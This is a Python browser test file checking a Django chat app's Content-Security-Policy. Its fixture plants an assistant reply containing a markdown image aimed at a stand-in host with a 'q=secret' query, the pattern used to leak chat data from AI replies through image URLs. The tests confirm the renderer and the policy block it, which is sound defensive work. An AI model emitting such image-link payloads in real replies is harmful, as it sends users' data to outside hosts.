"""The Content-Security-Policy in chromium: the pages load under it without a single violation,
and it blocks what the renderer would let through (a remote image put into the page)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.support.browser import PASSWORD, sign_up

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

REMOTE = "http://127.0.0.2:9/leak.png"

# Collects every violation the page reports, from the first script on.
LISTEN = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
});
"""

REPLY = f"""
from django.contrib.auth.models import User
from chat.models import Conversation, Message
from inference.models import Generation
user = User.objects.get(username="ada")
conversation = Conversation.objects.create(user=user, model_id="tiny", title="Markdown")
Message.objects.create(conversation=conversation, role="user", content="Show me")
generation = Generation.objects.create(
    model_id="tiny", state="complete", completion_tokens=9,
    text="A table:\\n\\n|a|b|\\n|:-|-:|\\n|1|2|\\n\\n"
    "![the plan]({REMOTE}?q=secret)\\n\\n```python\\nx = 1\\n```",
)
Message.objects.create(conversation=conversation, role="assistant", generation=generation)
print(conversation.code)
"""


class Watch:
    """Console errors about the policy and requests that left this origin."""

    def __init__(self, page: Page, origin: str) -> None:
        self.console: list[str] = []
        self.remote: list[str] = []
        page.on("console", self._console)
        page.on(
            "request", lambda r: None if r.url.startswith(origin) else self.remote.append(r.url)
        )

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.console.append(message.text)


@pytest.fixture(scope="module")
def admin_page(browser, live_site) -> Iterator[tuple[Page, Watch]]:  # type: ignore[no-untyped-def]
    context = browser.new_context()
    context.add_init_script(LISTEN)
    page = context.new_page()
    watch = Watch(page, live_site.url)
    sign_up(page, live_site.url, "ada")
    yield page, watch
    context.close()


def _violations(page: Page) -> list[str]:
    return list(page.evaluate("window.__cspViolations"))


def _load(page: Page, url: str) -> dict[str, str]:
    response = page.goto(url)
    assert response is not None and response.status == 200
    page.wait_for_load_state("networkidle")
    return response.all_headers()


def test_the_pages_load_under_the_policy_without_violations(admin_page, live_site) -> None:  # type: ignore[no-untyped-def]
    page, watch = admin_page
    for path in ("/", "/models/"):
        headers = _load(page, live_site.url + path)
        policy = headers["content-security-policy"]
        assert "script-src 'self'" in policy and "img-src 'self' data:" in policy
        assert _violations(page) == [], path
    # Signed out: the sign-in page.
    page.click("text=Sign out")
    headers = _load(page, live_site.url + "/login/")
    assert "content-security-policy" in headers
    expect(page.locator("input[name=username]")).to_be_visible()
    assert _violations(page) == []
    assert watch.console == []
    # Sign back in for the next test.
    page.fill("input[name=username]", "ada")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    expect(page.locator("#composer")).to_be_visible()


def test_a_reply_with_a_remote_image_fetches_nothing_remote(admin_page, live_site) -> None:  # type: ignore[no-untyped-def]
    page, watch = admin_page
    code = live_site.manage("shell", "-c", REPLY).strip().splitlines()[-1]
    _load(page, f"{live_site.url}/c/{code}/")
    link = page.locator("a.remote-image")
    expect(link).to_have_attribute("href", re.compile(r"^http://127\.0\.0\.2:9/leak\.png"))
    expect(page.locator(".md table td.align-right")).to_have_text("2")
    assert page.locator(".md img").count() == 0
    assert watch.remote == []
    assert _violations(page) == []
    assert watch.console == []


def test_the_policy_blocks_a_remote_image_the_renderer_missed(admin_page, live_site) -> None:  # type: ignore[no-untyped-def]
    page, watch = admin_page
    _load(page, live_site.url + "/")
    page.evaluate(
        "(src) => { const img = document.createElement('img'); img.src = src;"
        " document.body.append(img); }",
        REMOTE,
    )
    page.wait_for_function("window.__cspViolations.length > 0")
    assert any(v.startswith("img-src") and "127.0.0.2" in v for v in _violations(page))
